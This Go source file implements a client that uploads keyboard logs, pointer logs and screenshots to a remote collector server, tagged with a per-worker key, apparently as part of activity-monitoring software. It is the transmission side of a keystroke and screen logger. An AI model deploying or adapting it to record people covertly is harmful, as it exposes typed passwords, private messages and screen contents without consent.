package collector

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"golang.org/x/time/rate"
)

// ClientConfig configures the collector client.
type ClientConfig struct {
	// BaseURL is the collector root, without a trailing slash.
	BaseURL string

	// ClientKey identifies this worker on every payload.
	ClientKey string

	// Timeout for individual requests (default: 5s).
	Timeout time.Duration

	// RateLimit requests per second; zero disables pacing.
	RateLimit float64

	// Transport allows injecting a custom HTTP transport (for tests/stubs).
	Transport http.RoundTripper
}

// Client speaks the collector's HTTP contract.
type Client struct {
	config      ClientConfig
	httpClient  *http.Client
	rateLimiter *rate.Limiter
}

// NewClient creates a collector client.
func NewClient(config ClientConfig) (*Client, error) {
	if strings.TrimSpace(config.BaseURL) == "" {
		return nil, errors.New("collector base url must not be empty")
	}
	config.BaseURL = strings.TrimRight(config.BaseURL, "/")
	if config.Timeout <= 0 {
		config.Timeout = 5 * time.Second
	}
	limiter := rate.NewLimiter(rate.Inf, 1)
	if config.RateLimit > 0 {
		limiter = rate.NewLimiter(rate.Limit(config.RateLimit), 1)
	}
	return &Client{
		config: config,
		httpClient: &http.Client{
			Timeout:   config.Timeout,
			Transport: config.Transport,
		},
		rateLimiter: limiter,
	}, nil
}

type cycleKey struct{}

// WithCycle tags ctx with an upload cycle identifier sent on every request.
func WithCycle(ctx context.Context, cycle string) context.Context {
	return context.WithValue(ctx, cycleKey{}, cycle)
}

func cycleFrom(ctx context.Context) string {
	cycle, _ := ctx.Value(cycleKey{}).(string)
	return cycle
}

// Ping probes collector liveness. A transport failure means the collector is
// unreachable; a non-2xx answer is reported as ErrUnexpectedStatus.
func (c *Client) Ping(ctx context.Context) error {
	return c.do(ctx, http.MethodGet, PathPing, nil)
}

// PostMouse uploads the pointer log contents.
func (c *Client) PostMouse(ctx context.Context, data string) error {
	return c.post(ctx, PathMouse, MousePayload{Mouse: data, ClientKey: c.config.ClientKey})
}

// PostKeyboard uploads the keyboard log contents.
func (c *Client) PostKeyboard(ctx context.Context, data string) error {
	return c.post(ctx, PathKeyboard, KeyboardPayload{Keyboard: data, ClientKey: c.config.ClientKey})
}

// PostScreenshot uploads one screenshot, base64 encoded, under its file name.
func (c *Client) PostScreenshot(ctx context.Context, filename string, image []byte) error {
	return c.post(ctx, PathScreenshot, ScreenshotPayload{
		ScreenshotBase64:   base64.StdEncoding.EncodeToString(image),
		ScreenshotFilename: filename,
		ClientKey:          c.config.ClientKey,
	})
}

func (c *Client) post(ctx context.Context, path string, payload any) error {
	body, err := json.Marshal(payload)
	if err != nil {
		return fmt.Errorf("encode %s payload: %w", path, err)
	}
	return c.do(ctx, http.MethodPost, path, body)
}

func (c *Client) do(ctx context.Context, method, path string, body []byte) error {
	if err := c.rateLimiter.Wait(ctx); err != nil {
		return fmt.Errorf("rate limiter: %w", err)
	}

	var reader io.Reader
	if body != nil {
		reader = bytes.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.config.BaseURL+path, reader)
	if err != nil {
		return fmt.Errorf("create request: %w", err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	if cycle := cycleFrom(ctx); cycle != "" {
		req.Header.Set(HeaderCycle, cycle)
	}

	resp, err := c.httpClient.Do(req)
	if err != nil {
		return fmt.Errorf("%s %s: %w", method, path, err)
	}
	defer resp.Body.Close()
	snippet, _ := io.ReadAll(io.LimitReader(resp.Body, 512))

	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
		return fmt.Errorf("%w: %s %s returned %d: %s", ErrUnexpectedStatus, method, path, resp.StatusCode, strings.TrimSpace(string(snippet)))
	}
	return nil
}
